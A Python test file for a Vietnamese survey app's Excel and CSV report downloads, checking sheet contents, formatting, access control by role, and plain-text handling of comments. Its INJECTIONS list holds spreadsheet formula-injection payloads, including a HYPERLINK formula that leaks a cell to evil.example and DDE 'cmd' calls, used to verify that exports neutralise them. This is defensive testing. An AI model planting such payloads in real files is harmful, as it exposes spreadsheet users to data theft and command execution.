"""Excel and CSV downloads and `flask mscore report`: they open, and hold what the API says."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from .test_api_reports import Q, token  # noqa: F401  (the token fixture)
from .test_reporting import seed


@pytest.fixture
def seeded(app, db, make_office, make_service, questionnaire):
    return seed(db, make_office, make_service, questionnaire, scale=0.5)


def test_xlsx_holds_what_the_api_says(client, seeded, token):  # noqa: F811
    headers = token("reports:read")
    api = client.get(f"/api/v1/reports/satisfaction?{Q}&compare=previous", headers=headers).json
    res = client.get(f"/reports/satisfaction.xlsx?{Q}&compare=previous", headers=headers)
    assert res.status_code == 200 and "attachment" in res.headers["Content-Disposition"]
    wb = openpyxl.load_workbook(io.BytesIO(res.data))
    assert wb.sheetnames == [
        "Đơn vị",
        "Tổng theo khối",
        "Yếu tố",
        "Câu hỏi",
        "Dịch vụ",
        "Kênh",
        "Góp ý",
        "Giải thích",
        "Phương pháp",
    ]
    ws = wb["Đơn vị"]
    assert ws["A1"].value == "Mức độ hài lòng của người dân – Đơn vị"
    assert "01/03/2025 – 31/03/2025" in ws["A2"].value  # the period on every sheet
    assert all("01/03/2025" in sheet["A2"].value for sheet in wb.worksheets)
    header = [c.value for c in ws[4]]
    assert header[:2] == ["Mã đơn vị", "Tên đơn vị"] and ws.freeze_panes == "A5"
    assert ws.auto_filter.ref.startswith("A4:") and ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToHeight == 0
    assert ws.page_setup.fitToWidth in (None, 1)  # 1 is the default, which may be left out
    assert ws.conditional_formatting  # tiers in colour
    col = {h: i for i, h in enumerate(header)}
    rows = {r[0]: r for r in ws.iter_rows(min_row=5, values_only=True)}
    ranked = [r for r in ws.iter_rows(min_row=5, values_only=True)]
    groups = [r[col["Khối"]] for r in ranked]
    blocks = [g for i, g in enumerate(groups) if i == 0 or groups[i - 1] != g]
    assert len(blocks) == len(set(blocks)) and "Khối sở, ban, ngành" in groups  # by group
    dept_ranks = [r[col["Hạng"]] for r in ranked if r[col["Khối"]] == "Khối sở, ban, ngành"]
    known = [x for x in dept_ranks if x is not None]
    assert known == sorted(known) and dept_ranks[: len(known)] == known  # by rank, then unranked
    for office in api["offices"]:
        row = rows[office["code"]]
        assert row[col["Tên đơn vị"]] == office["name"]
        assert row[col["Số phiếu"]] == office["responses"]
        assert row[col["Chỉ số hài lòng: giá trị"]] == pytest.approx(office["index"]["value"])
        assert row[col["Điểm PAR"]] == pytest.approx(office["index"]["par_points"]["value"])
        assert row[col["Hạng"]] == office["index"].get("rank")
    value_cell = ws.cell(row=5, column=col["Chỉ số hài lòng: giá trị"] + 1)
    assert value_cell.number_format == "0.0%" and isinstance(value_cell.value, float)
    questions = list(wb["Câu hỏi"].iter_rows(min_row=5, values_only=True))
    assert len(questions) == len(api["offices"]) * len(api["questions"])
    method = dict(wb["Phương pháp"].iter_rows(min_row=5, values_only=True))
    assert "2025-03-01 đến 2025-03-31" in method["Kỳ báo cáo"]
    assert "wilson" in method["Khoảng tin cậy"] and "95%" in method["Khoảng tin cậy"]
    assert "≥ 30" in method["Quy tắc tin cậy"] and "hậu phân tầng" in method["Trọng số"]
    comments = list(wb["Góp ý"].iter_rows(min_row=5, values_only=True))
    assert comments and all(c[6].startswith("Góp ý số") for c in comments)
    names = {o["code"]: o["name"] for o in api["offices"]}
    assert all(c[1] == names[c[0]] and c[5] in {1, 2, 3, 4, 5} for c in comments)
    assert "Số phiếu quy đổi" in dict(wb["Giải thích"].iter_rows(min_row=5, values_only=True))


def test_csv_views(client, seeded, token):  # noqa: F811
    headers = token("reports:read")
    api = client.get(f"/api/v1/reports/satisfaction?{Q}", headers=headers).json
    res = client.get(f"/reports/satisfaction.csv?{Q}", headers=headers)
    assert res.status_code == 200 and res.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(res.data.decode("utf-8-sig"))))
    assert [r["Mã đơn vị"] for r in rows] == [o["code"] for o in api["offices"]]
    assert float(rows[0]["Chỉ số hài lòng: giá trị"]) == pytest.approx(
        api["offices"][0]["index"]["value"]
    )
    res = client.get(f"/reports/satisfaction.csv?{Q}&view=channels", headers=headers)
    assert "Kênh" in res.data.decode("utf-8-sig").splitlines()[0]
    bad = client.get(f"/reports/satisfaction.csv?{Q}&view=nope", headers=headers)
    assert bad.status_code == 422 and bad.json["code"] == "invalid_query"
    assert client.get(f"/reports/satisfaction.xlsx?{Q}").status_code == 401


def test_report_command(runner, seeded, tmp_path):
    out = tmp_path / "r.json"
    result = runner.invoke(
        args=[
            "mscore",
            "report",
            "--from",
            "2025-03-01",
            "--to",
            "2025-03-31",
            "--format",
            "json",
            "--out",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert len(doc["offices"]) == 5
    xlsx = tmp_path / "r.xlsx"
    result = runner.invoke(
        args=[
            "mscore",
            "report",
            "--from",
            "2025-03-01",
            "--to",
            "2025-03-31",
            "--group",
            "districts",
            "--out",
            str(xlsx),
        ]
    )
    assert result.exit_code == 0, result.output
    rows = list(openpyxl.load_workbook(xlsx)["Đơn vị"].iter_rows(min_row=5, values_only=True))
    assert [r[0] for r in rows] == ["E"]
    bad = runner.invoke(
        args=["mscore", "report", "--from", "2025-03-31", "--to", "2025-03-01", "--out", str(xlsx)]
    )
    assert bad.exit_code != 0


def test_xlsx_cells_keep_text_and_formats(app, seeded):
    """Comments with markup, formula-like text and control characters stay plain text."""
    from datetime import date

    from survey_app.exports_xlsx import write_xlsx
    from survey_app.reporting import Params, Period
    from survey_app.reporting.documents import satisfaction_document

    document = satisfaction_document(
        Params(Period(date(2025, 3, 1), date(2025, 3, 31))), breakdowns=True
    )
    text = ' <b>"tốt" & nhanh</b> =1+1\x01 '
    buffer = io.BytesIO()
    write_xlsx(
        document,
        buffer,
        [
            {
                "office_code": "A",
                "day": "2025-03-02",
                "channel": "SMS",
                "service": None,
                "text": text,
            }
        ],
    )
    wb = openpyxl.load_workbook(buffer)
    assert list(wb["Góp ý"].iter_rows(min_row=5, values_only=True)) == [
        ("A", None, "2025-03-02", "SMS", None, None, text.replace("\x01", ""))
    ]
    assert wb["Góp ý"]["G5"].data_type == "s"  # text, never a formula
    header = wb["Tổng theo khối"][4]
    assert header[0].font.b and header[0].alignment.wrap_text
    assert wb["Tổng theo khối"].freeze_panes == "A5" and wb["Phương pháp"].freeze_panes == "A5"
    office = wb["Đơn vị"][5]
    formats = {c.number_format for c in office if isinstance(c.value, float)}
    assert formats <= {"0.0%", "0.0", "0.00", "General"} and "0.0%" in formats


def _sign_in(client, db, role, office=None, enabled=True):
    """A Flask-Login session for an official (the officials' pages will add the login form)."""
    from survey_app.models import User

    user = User(
        email=f"{role}-{office.code if office else 'all'}@tinh.gov.vn",
        name="Cán bộ",
        password_hash="-",
        role=role,
        office=office,
        is_enabled=enabled,
    )
    db.session.add(user)
    db.session.commit()
    with client.session_transaction() as session:
        session["_user_id"] = str(user.id)
        session["_fresh"] = True
    return user


def _sheet_codes(res) -> list[str]:
    assert res.status_code == 200, res.data[:300]
    wb = openpyxl.load_workbook(io.BytesIO(res.data))
    return sorted(r[0] for r in wb["Đơn vị"].iter_rows(min_row=5, values_only=True))


def test_downloads_by_a_signed_in_officials_session(app, db, seeded, token):  # noqa: F811
    from survey_app.models import Role

    api = (
        app.test_client()
        .get(f"/api/v1/reports/satisfaction?{Q}", headers=token("reports:read"))
        .json
    )
    analyst = app.test_client()
    _sign_in(analyst, db, Role.ANALYST)
    assert _sheet_codes(analyst.get(f"/reports/satisfaction.xlsx?{Q}")) == sorted(
        o["code"] for o in api["offices"]
    )

    manager = app.test_client()
    _sign_in(manager, db, Role.OFFICE_MANAGER, seeded["offices"]["A"])
    assert _sheet_codes(manager.get(f"/reports/satisfaction.xlsx?{Q}")) == ["A", "B"]
    csv_rows = manager.get(f"/reports/satisfaction.csv?{Q}&office=B")
    assert csv_rows.status_code == 200
    assert [
        r["Mã đơn vị"] for r in csv.DictReader(io.StringIO(csv_rows.data.decode("utf-8-sig")))
    ] == ["B"]
    for other in ("C", "E"):  # outside the manager's subtree: refused, no data
        res = manager.get(f"/reports/satisfaction.xlsx?{Q}&office={other}")
        assert res.status_code == 403 and res.json["code"] == "forbidden"

    disabled = app.test_client()
    _sign_in(disabled, db, Role.ADMIN, enabled=False)
    assert disabled.get(f"/reports/satisfaction.xlsx?{Q}").status_code == 401
    assert app.test_client().get(f"/reports/satisfaction.csv?{Q}").status_code == 401


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_comments_cannot_run_in_a_spreadsheet(
    app,
    client,
    db,
    seeded,
    token,  # noqa: F811
    questionnaire,
):
    """OWASP's CSV injection: every CSV neutralises them; the xlsx keeps them as text."""
    from datetime import UTC, datetime

    from survey_app.models import Answer, Response

    comment = next(q for q in questionnaire.questions if q.kind == "text")
    for i, text in enumerate(INJECTIONS):
        r = Response(
            office=seeded["offices"]["A"],
            questionnaire_id=questionnaire.id,
            channel="qr_web",
            submitted_at=datetime(2025, 3, 31, 16, i, tzinfo=UTC),
        )
        r.answers = [Answer(question_id=comment.id, text=text)]
        db.session.add(r)
    db.session.commit()
    headers = token("reports:read")
    res = client.get(f"/reports/satisfaction.csv?{Q}&view=comments", headers=headers)
    texts = [r["Góp ý"] for r in csv.DictReader(io.StringIO(res.data.decode("utf-8-sig")))]
    for text in INJECTIONS:
        assert "'" + text in texts and text not in texts
    assert all(not t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    res = client.get(f"/reports/satisfaction.xlsx?{Q}", headers=headers)
    ws = openpyxl.load_workbook(io.BytesIO(res.data))["Góp ý"]
    cells = [row[6] for row in ws.iter_rows(min_row=5)]
    assert all(c.data_type == "s" for c in cells)  # strings, never formulas
    stored = {c.value for c in cells}
    for text in INJECTIONS:  # as typed (a CR is written as OOXML's _x000D_, which Excel reads)
        assert text in stored or text.replace("\r", "_x000D_") in stored

    from .officials import make_user, sign_in

    make_user(db, "an@x.vn", "analyst")
    sign_in(client, "an@x.vn")
    res = client.get("/offices/A/comments.csv?period=custom&from=2025-03-01&to=2025-03-31")
    texts = [r["Góp ý"] for r in csv.DictReader(io.StringIO(res.data.decode("utf-8-sig")))]
    for text in INJECTIONS:
        assert "'" + text in texts
    res = client.get("/offices/A/comments.xlsx?period=custom&from=2025-03-01&to=2025-03-31")
    ws = openpyxl.load_workbook(io.BytesIO(res.data)).worksheets[0]
    cells = [c for row in ws.iter_rows(min_row=5) for c in row if c.value in INJECTIONS]
    assert len(cells) >= 5 and all(c.data_type == "s" for c in cells)
